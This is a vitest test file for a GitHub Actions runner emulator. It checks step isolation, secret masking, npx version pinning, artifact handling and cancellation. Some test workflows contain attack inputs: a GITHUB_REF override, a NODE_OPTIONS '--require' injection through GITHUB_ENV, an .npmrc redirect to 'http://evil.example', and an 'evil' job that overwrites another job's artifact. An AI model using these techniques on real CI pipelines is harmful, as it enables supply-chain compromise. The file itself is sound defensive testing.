import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { version } from "../../src/apps/cli/version.ts";
import { at } from "../github/small-github.ts";
import { openSmallRunner, type SmallRunner } from "./small-runner.ts";

let here: SmallRunner;

beforeEach(async () => {
  here = await openSmallRunner();
});

afterEach(() => here.close());

const said = (log: string | undefined) => (log ?? "").trim().split("\n");

describe("a step", () => {
  it("is told nothing of the test's, overrides nothing of GitHub's, and hides what it calls a secret", async () => {
    await here.workflow(`
on: push
permissions: { contents: write }
env: { GITHUB_REF: refs/heads/evil, SHARED: workflow }
jobs:
  one:
    runs-on: ubuntu-24.04
    env: { SHARED: job }
    outputs: { printed: "\${{ steps.printed.outputs.name }}", hushed: "\${{ steps.hush.outputs.name }}" }
    steps:
      - id: printed
        env: { GITHUB_SHA: nonsense, WHAT: "::set-output name=name::by what was printed" }
        run: |
          echo "ref $GITHUB_REF, sha \${#GITHUB_SHA}, shared $SHARED, home $HOME"
          echo "$WHAT"
          echo "SHARED=file" >> "$GITHUB_ENV"
          echo "GITHUB_REF=refs/heads/evil" >> "$GITHUB_ENV"
          mkdir "$RUNNER_TEMP/bin" && echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"
          printf '#!/bin/sh\\necho mine' > "$RUNNER_TEMP/bin/mine" && chmod +x "$RUNNER_TEMP/bin/mine"
          echo "## Told" >> "$GITHUB_STEP_SUMMARY"
      - id: hush
        run: |
          echo "::add-mask::hush-hush"
          echo "name=hush-hush" >> "$GITHUB_OUTPUT"
          echo "hush-hush, $SHARED, $GITHUB_REF, $(mine)"
      - { if: "false || \${{ false }}", run: echo a text is true }
      - run: false | true
      - shell: bash
        run: false | true
      - { if: failure(), run: "echo NODE_OPTIONS=--require=x >> $GITHUB_ENV" }
      - { if: "\${{ !cancelled() }}", working-directory: missing, run: echo }
`);
    const [job] = here.runner.runs[0]?.jobs ?? [];
    expect(job?.steps.map(({ conclusion }) => conclusion)).toEqual([
      "success",
      "success",
      "success",
      "success",
      "failure",
      "failure",
      "failure",
    ]);
    const [first, second] = (job?.steps ?? []).map(({ log }) => said(log));
    expect(first?.[0]).toMatch(/^ref refs\/heads\/main, sha 40, shared job, home .*\/home$/);
    expect(second).toEqual(["***, file, refs/heads/main, mine"]);
    expect(job?.outputs).toEqual({ printed: "by what was printed" });
    expect(job?.summary).toBe("## Told\n");
    expect(job?.log).toContain("Skip output 'hushed' since it may contain secret");
  });

  it("finds the command line as it is published, and nothing else of what npx could fetch", async () => {
    const stepsSeen: string[] = [];
    here.hooks.afterStep = ({ run, job, step }) =>
      void stepsSeen.push(`${run.event} ${job.id} ${step.name}: ${step.conclusion}`);
    await here.workflow(`
on: push
permissions: {}
jobs:
  one:
    runs-on: ubuntu-24.04
    steps:
      - { name: at its version, run: npx --yes plangate@${version()} --version }
      - { name: at another, if: always(), run: npx --yes plangate@9.9.9 --version }
      - { name: another, if: always(), run: npx --yes cowsay@1.0.0 }
      - { name: unasked, if: always(), run: npx plangate@${version()} --version }
      - name: where a change says which
        if: always()
        run: echo registry=http://evil.example > .npmrc && mkdir below && cd below && npx --yes plangate@${version()} --version
`);
    expect(stepsSeen).toEqual([
      "push one at its version: success",
      "push one at another: failure",
      "push one another: failure",
      "push one unasked: failure",
      "push one where a change says which: failure",
    ]);
    const logs = here.runner.runs[0]?.jobs[0]?.steps.map(({ log }) => said(log)[0]);
    expect(logs?.[0]).toBe(version());
    expect(logs?.slice(1, 4)).toEqual(Array.from({ length: 3 }, () => expect.stringContaining("404 Not Found")));
    expect(logs?.[4]).toMatch(/\.npmrc would be obeyed$/);
  });

  it("can replace what other jobs of its run have left, and read what they have", async () => {
    await here.workflow(`
on: push
permissions: {}
jobs:
  one:
    runs-on: ubuntu-24.04
    steps:
      - run: mkdir out && echo good > out/plan && echo hidden > out/.hidden
      - uses: actions/upload-artifact@v6
        with: { name: plan, path: out/, retention-days: 5, include-hidden-files: true }
      - uses: actions/upload-artifact@v6
        continue-on-error: true
        with: { name: plan, path: out/ }
  evil:
    needs: one
    runs-on: ubuntu-24.04
    steps:
      - run: hostile-artifact get plan was && cat was/plan was/.hidden
      - run: mkdir bad && echo bad > bad/plan && hostile-artifact put plan bad && hostile-artifact list
  three:
    needs: evil
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/download-artifact@v6
        with: { name: plan, path: there }
      - run: cat there/plan; ls -A there
`);
    const [one, evil, three] = here.runner.runs[0]?.jobs ?? [];
    expect(one?.steps[2]?.log).toContain("Conflict");
    expect(said(evil?.log)).toEqual(["good", "hidden", "plan"]);
    expect(said(three?.log)).toEqual(["bad", "plan"]);
    expect(here.jobs()).toEqual({ one: "success", evil: "success", three: "success" });
  });

  it("ends when its run is cancelled, and what is always done is done", async () => {
    const ended = here.workflow(`
on: push
permissions: {}
concurrency: { group: one, cancel-in-progress: true }
jobs:
  long:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          sleep 300 & setsid sleep 301 &
          trap 'echo interrupted; exit 1' INT
          echo started; sleep 302 & wait
      - { if: always(), run: echo cleaned up }
      - { if: "!cancelled()", run: echo no }
  next: { needs: long, if: "!cancelled()", runs-on: ubuntu-24.04, steps: [{ run: echo no }] }
  last: { needs: long, if: always(), runs-on: ubuntu-24.04, steps: [{ run: echo told }] }
`);
    while (here.runner.runs[0]?.jobs[0]?.log.includes("started") !== true)
      await new Promise((resolve) => setTimeout(resolve, 20));
    const [first] = here.runner.runs;
    const { rest } = await here.small.as("ann");
    await rest.actions.cancelWorkflowRun({ ...at, run_id: first?.id ?? 0 });
    await ended;
    expect(here.jobs(first)).toEqual({ long: "cancelled", next: "skipped", last: "success" });
    expect(said(first?.jobs[0]?.log)).toEqual([
      "started",
      "interrupted",
      "##[error]The operation was canceled.",
      "cleaned up",
    ]);
    expect(first?.conclusion).toBe("cancelled");
    expect((await rest.actions.getWorkflowRun({ ...at, run_id: first?.id ?? 0 })).data.conclusion).toBe("cancelled");
  });
});

describe("this runner", () => {
  it.each([
    ["the action somebody/else", "uses: somebody/else@v1"],
    ["actions/checkout@v6 with lfs", "{ uses: actions/checkout@v6, with: { lfs: true } }"],
    ["the shell python", "{ shell: python, run: print() }"],
    ["setup-node with a cache", "{ uses: actions/setup-node@v6, with: { node-version: 24.21.0 } }"],
  ])("fails by %s, which it does not know", async (what, step) => {
    const text = `on: push\npermissions: {}\njobs: { one: { runs-on: ubuntu-24.04, steps: [${step.startsWith("{") ? step : `{ ${step} }`}] } }\n`;
    await expect(here.workflow(text)).rejects.toThrow(what);
  });

  it.each([
    ["container", "container: ubuntu, runs-on: ubuntu-24.04"],
    ["runs-on", "runs-on: windows-2025"],
  ])("fails by %s of a job, which it does not know", async (what, keys) => {
    const text = `on: push\npermissions: {}\njobs: { one: { ${keys}, steps: [{ run: echo }] } }\n`;
    await expect(here.workflow(text)).rejects.toThrow(what);
  });
});
